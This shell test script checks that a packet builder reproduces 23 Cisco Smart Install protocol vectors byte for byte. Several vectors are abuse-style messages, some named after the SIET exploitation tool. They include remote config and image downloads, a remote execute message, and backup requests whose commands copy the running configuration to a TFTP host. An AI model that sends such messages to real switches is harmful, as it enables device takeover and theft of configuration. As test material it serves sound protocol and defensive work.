#!/bin/sh
# SPDX-License-Identifier: BSD-2-Clause
# smin-mkpcap's messages are the published ones: built by name, they equal the vectors byte for byte.
set -eu
: "${SMIN_SRCDIR:?}" "${SMIN_BUILDDIR:?}"
mkpcap=$SMIN_BUILDDIR/tools/mkpcap/smin-mkpcap
[ -x "$mkpcap" ] || { echo "SKIPPED: smin-mkpcap was not built (libnet is missing)" >&2; exit 77; }
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
bad=0
count=0

# VECTOR, then the statement that has to make it.
same()
{
	printf 'packet %s\n' "$2" >"$work/built.txt"
	printf 'packet file %s.hex\n' "$1" >"$work/vector.txt"
	count=$((count + 1))
	for name in built vector; do
		"$mkpcap" -I "$SMIN_SRCDIR/tests/vectors" -o "$work/$name" "$work/$name.txt" || bad=1
	done
	cmp -s "$work/built" "$work/vector" || { echo "$1 is not: $2" >&2; bad=1; }
}

same t02_download_image_now 'smi download-image now=1 url="tftp://198.51.100.7/tar_imglist0.txt"'
same t02_download_image_sched 'smi download-image scheduled=1 hours=1 minutes=30 url="tftp://198.51.100.7/tar_imglist0.txt"'
same t03_download_config_sched 'smi download-config scheduled=1 minutes=1 url="tftp://198.51.100.7/default.conf"'
same t03_download_config_2359 'smi download-config scheduled=1 hours=23 minutes=59 url="tftp://198.51.100.7/my.conf"'
same t03_test2016_random_file 'smi download-config url="tftp://198.51.100.7/random_file"'
same t03_gvm_truncated 'smi download-config length=1 cut=16 + hex 00'
same t04_capabilities_req_v1 'smi capabilities-request'
same t04_capabilities_req_v0 'smi capabilities-request version=0'
same t04_probe_go_siet_28b 'smi capabilities-request + zeros 4'
same r03_capabilities_resp 'smi capabilities-response'
same r04_status_1 'smi status'
same t05_execute 'smi execute url="tftp://198.51.100.7/execute.txt"'
same t05_execute_go_siet 'smi execute length=210 url="tftp://198.51.100.7/execute.txt"'
same t07_init_discovery_28 'smi init-discovery item-length=28'
same t07_init_discovery_29 'smi init-discovery item-length=29 fill=65'
same t07_init_discovery_216 'smi init-discovery item-length=216 fill=65'
same t07_init_discovery_lenmismatch 'smi init-discovery item-length=216 fill=65 length=216'
same t07_init_discovery_len0 'smi init-discovery item-length=0 value-length=28'
same t08_backup_tlv3_siet 'smi backup-request mac=fc:99:47:37:86:60 command="copy system:running-config flash:/config.text" command2="copy flash:/config.text tftp://198.51.100.7/192.0.2.10.conf"'
same t08_backup_tlv2_tftpserver 'smi backup-request tlv=2 mac=00:21:d8:63:a5:60 command="configure tftp-server nvram:startup-config"'
same t09_backup_done 'smi backup-done'
same t10_backup_record_ff 'smi backup-record'
same t10_t08_pipelined 'smi backup-record + smi backup-request tlv=2 mac=00:21:d8:63:a5:60 command="configure tftp-server nvram:startup-config"'
[ $count -eq 23 ] || bad=1
exit $bad
